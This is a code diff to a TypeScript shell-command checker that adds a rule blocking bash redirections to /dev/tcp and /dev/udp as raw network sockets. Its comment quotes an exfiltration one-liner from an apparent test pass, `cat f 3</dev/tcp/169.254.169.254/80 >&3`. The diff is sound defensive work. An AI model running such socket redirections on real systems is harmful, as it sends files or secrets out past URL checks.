@@ -209,6 +209,12 @@ function judgeRedirects(rs: readonly Redirect[], cwds: Cwds, w: Walk, skip?: (r:
     if ((r.op === '>&' || r.op === '<&') && /^([0-9]{1,2}|-)$/.test(r.target)) continue;
     if (r.here !== undefined) continue; // here-input: judged as what the command reads (stdinVerdict)
     if (SILENT_TARGETS.has(r.target) || skip?.(r)) continue;
+    // bash opens `/dev/tcp/HOST/PORT` and `/dev/udp/…` as network sockets, in either direction
+    // (attack pass 4: `cat f 3</dev/tcp/169.254.169.254/80 >&3` sends f): never a file.
+    if (/^\/dev\/+(?:tcp|udp)\//.test(r.target) || /^\/dev\/(?:tcp|udp)\//.test(normalizePosix(r.target))) {
+      parts.push(verdict('block', 'high', 'url.raw_socket', `the redirection ${r.op} ${r.target} opens a network connection from bash itself, past the URL checks`, 'urls:raw-socket'));
+      continue;
+    }
     const access: PathAccess = r.op === '<' ? 'read' : 'write';
     for (const cwd of cwds) {
       parts.push(judgePaths([{ raw: r.target, access }], pathContext({ ...w.state, cwd })).verdict);
